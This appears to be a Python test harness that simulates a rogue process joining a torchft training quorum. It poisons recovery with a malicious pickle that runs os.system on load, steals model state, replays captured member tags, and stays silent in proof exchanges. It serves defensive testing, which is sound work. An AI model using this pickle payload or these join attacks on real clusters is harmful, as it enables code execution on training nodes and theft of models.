"""A process the coordinator never assigned joins a job's quorum through the Lighthouse.

``python rogue_member.py MODE LIGHTHOUSE OUT_DIR SECONDS [TAG_SLOT]`` (a real torchft Manager,
as an attacker on the cluster network would run it):

- ``poison``: claims a huge step, so torchft makes it the recovery source, and serves with
  torchft's own HTTP transport a pickle whose loading creates ``OUT_DIR/pwned``;
- ``steal``: joins at step 0, so torchft makes a real replica send it the state; if it ever
  receives it, it writes ``OUT_DIR/stolen``;
- ``replay``: names itself ``rogue.<TAG_SLOT>``, a member tag and slot it captured (tags are
  visible in every quorum) for a slot no real replica holds, so the tag check lets it in;
  on each new gloo group it speaks potluck's proof exchange with a secret it guessed (it
  does not have the job's) and counts the groups it got into in ``OUT_DIR/groups``. If a real
  replica ever sent it gradients, they would arrive in those groups' all-reduces;
- ``mute``: the same, but it never answers the proof exchange (it joins the group and stays
  silent).

It starts its Manager at once and joins when ``OUT_DIR/go`` appears, for SECONDS.
"""

from __future__ import annotations

import os
import sys
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

from torch.distributed import TCPStore
from torchft.checkpointing.http_transport import HTTPTransport
from torchft.manager import Manager
from torchft.process_group import ProcessGroupGloo

mode, lighthouse, out, seconds = sys.argv[1], sys.argv[2], Path(sys.argv[3]), float(sys.argv[4])
captured = sys.argv[5] if len(sys.argv) > 5 else ""


class Payload:
    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {out / 'pwned'}",))


class PoisonTransport(HTTPTransport):
    def send_checkpoint(self, dst_ranks: list[int], step: int, state_dict: Any,
                        timeout: timedelta) -> None:
        evil = {"user": {"default": Payload()}, "torchft": Payload()}
        super().send_checkpoint(dst_ranks, step, evil, timeout)


class ReplayGloo(ProcessGroupGloo):
    """torchft's group that, once configured, counts the group and (``replay``) answers
    potluck's proof exchange as best it can."""

    groups = 0

    def configure(self, store_addr: str, replica_id: str, rank: int, world_size: int,
                  quorum_id: int | None = None, group_rank: int | None = None,
                  group_world_size: int | None = None,
                  global_ranks: list[int] | None = None) -> None:
        super().configure(store_addr, replica_id, rank, world_size, quorum_id, group_rank,
                          group_world_size, global_ranks)
        if world_size < 2:
            return
        ReplayGloo.groups += 1
        (out / "groups").write_text(str(ReplayGloo.groups))
        if mode == "mute":
            return
        from torch.distributed import AllreduceOptions, ReduceOp

        from potluck.trainer.trust import exchange_proofs, new_job_secret

        def allreduce(table: Any) -> None:
            opts = AllreduceOptions()
            opts.reduceOp = ReduceOp.SUM
            self.allreduce([table], opts).wait()

        try:
            exchange_proofs(new_job_secret(), quorum_id=quorum_id or 0, store_addr=store_addr,
                            rank=rank, member=int(captured.rsplit("_", 1)[1]),
                            members=list(global_ranks or []), allreduce=allreduce)
        except Exception as exc:  # the real replicas hang up on us
            print(f"rogue: proof exchange failed: {exc}", flush=True)


def stolen(state: Any) -> None:
    (out / "stolen").write_text(repr(sorted(state))[:1000])


store = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
timeout = timedelta(seconds=5)
manager = Manager(
    pg=(ReplayGloo if mode in ("replay", "mute") else ProcessGroupGloo)(timeout=timedelta(seconds=5)),
    load_state_dict=stolen, state_dict=lambda: {},
    min_replica_size=1, use_async_quorum=False, timeout=timeout,
    quorum_timeout=timedelta(seconds=10), connect_timeout=timedelta(seconds=5),
    rank=0, world_size=1, store_addr="127.0.0.1", store_port=store.port,
    lighthouse_addr=lighthouse, hostname="127.0.0.1", port=0,
    replica_id=f"rogue.{captured}" if captured else f"node_{mode}_9",
    checkpoint_transport=PoisonTransport(timeout=timeout, num_chunks=0) if mode == "poison"
    else HTTPTransport(timeout=timeout, num_chunks=0),
    init_sync=False, quorum_retries=0,
)
if mode in ("replay", "mute"):
    # It runs potluck's own code where that helps it into the group: quorum ids and
    # rendezvous keys named as the replicas name them (trainer/ft.py QuorumClient).
    from potluck.trainer.ft import QuorumClient

    manager._client = QuorumClient(manager._client)
while not (out / "go").exists():  # the test says when training is under way
    time.sleep(0.05)
deadline = time.monotonic() + seconds
rounds = 0
while time.monotonic() < deadline:
    if mode == "poison":
        manager._step = 10**6
    try:
        manager.start_quorum()
        rounds += 1
    except Exception as exc:  # the real replicas may refuse us; keep trying until the deadline
        print(f"rogue: quorum failed: {exc}", flush=True)
        time.sleep(0.2)
(out / "rounds").write_text(str(rounds))
print(f"rogue {mode}: {rounds} quorum rounds", flush=True)
os._exit(0)
